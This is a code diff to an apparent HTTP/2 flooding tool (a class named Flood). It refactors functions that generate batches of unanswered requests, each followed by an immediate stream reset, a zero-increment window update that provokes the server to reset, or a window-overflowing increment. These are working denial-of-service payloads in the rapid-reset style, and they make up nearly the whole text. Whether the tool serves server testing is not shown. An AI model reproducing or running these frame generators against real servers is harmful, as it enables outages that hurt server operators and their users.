@@ -48,35 +48,28 @@ class Flood:
     envoy_bears: str = ""
 
 
-def _resets(session: Session, host: bytes) -> bytes:
+def _streams_then(session: Session, host: bytes, then: Callable[[int], bytes]) -> bytes:
+    """Requests that nobody answers, each followed by the frame that ``then`` makes for its stream."""
     out = b""
     head = block(usual(path=b"/hang", authority=host))
     for _ in range(BATCH):
         stream = session.new_stream()
-        out += frame(HEADERS, END_HEADERS | END_STREAM, stream, head)
-        out += frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
+        out += frame(HEADERS, END_HEADERS | END_STREAM, stream, head) + then(stream)
     return out
+
+
+def _resets(session: Session, host: bytes) -> bytes:
+    return _streams_then(session, host, lambda stream: frame(RST_STREAM, 0, stream, (8).to_bytes(4, "big")))
 
 
 def _provoked_resets(session: Session, host: bytes) -> bytes:
     """The peer is made to reset the stream: by an increment of zero."""
-    out = b""
-    head = block(usual(path=b"/hang", authority=host))
-    for _ in range(BATCH):
-        stream = session.new_stream()
-        out += frame(HEADERS, END_HEADERS | END_STREAM, stream, head)
-        out += frame(WINDOW_UPDATE, 0, stream, bytes(4))
-    return out
+    return _streams_then(session, host, lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4)))
 
 
 def _overflown_windows(session: Session, host: bytes) -> bytes:
-    out = b""
-    head = block(usual(path=b"/hang", authority=host))
-    for _ in range(BATCH):
-        stream = session.new_stream()
-        out += frame(HEADERS, END_HEADERS | END_STREAM, stream, head)
-        out += frame(WINDOW_UPDATE, 0, stream, (0x7FFFFFFF).to_bytes(4, "big"))
-    return out
+    increment = (0x7FFFFFFF).to_bytes(4, "big")
+    return _streams_then(session, host, lambda stream: frame(WINDOW_UPDATE, 0, stream, increment))
 
 
 def _malformed(session: Session, host: bytes) -> bytes:
